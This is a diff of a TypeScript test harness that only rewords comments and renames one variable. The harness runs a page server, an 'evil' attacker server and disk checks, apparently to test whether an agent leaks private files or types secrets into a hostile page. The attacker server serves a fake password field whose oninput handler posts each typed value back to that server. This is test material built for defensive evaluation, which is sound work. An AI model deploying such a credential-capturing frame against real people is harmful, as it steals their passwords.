@@ -1,4 +1,4 @@
-// The page's own server, the attacker's, and the disk, each watched by itself. Every run has its number in every name.
+// Observes the page's own server, the attacker's server and the disk. Every name contains the number of the run.
 import { mkdir, readdir, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { makeFolder, readBody, startWebServer } from "@giselles-ai/testing";
@@ -12,12 +12,12 @@ export interface WatchedSite {
   placeOf(run: number): Place;
   /** What the page of a run shows. */
   show(run: number, html: string): string;
-  /** All that was seen of a run until now. */
+  /** The effects of a run so far. */
   seenOf(run: number): Promise<Seen[]>;
   close(): Promise<void>;
 }
 
-/** What is in files that nobody but their owner should read. */
+/** The content of private files. */
 export const secretText = "the owner's own words";
 
 export async function startWatchedSite(): Promise<WatchedSite> {
@@ -59,14 +59,14 @@ export async function startWatchedSite(): Promise<WatchedSite> {
     send(pages.get(pathname) ?? "<title>Nothing</title>");
   });
 
-  /** The frame that it shows is no hit; what is typed there is. */
+  /** Showing the frame is harmless; typing into it is an effect. */
   const evil = await startWebServer(async (request, response) => {
     const [, run, what] = (request.url ?? "/").split(/[/?]/);
     if (what === "frame") {
-      const tell = `fetch('/${run}/typed', { method: 'POST', body: this.value })`;
+      const reportTyping = `fetch('/${run}/typed', { method: 'POST', body: this.value })`;
       return void response
         .writeHead(200, { "content-type": "text/html" })
-        .end(`<!doctype html><label>Password <input type="password" oninput="${tell}"></label>`);
+        .end(`<!doctype html><label>Password <input type="password" oninput="${reportTyping}"></label>`);
     }
     if (what) note(run, what === "typed" ? "confided" : "left");
     response
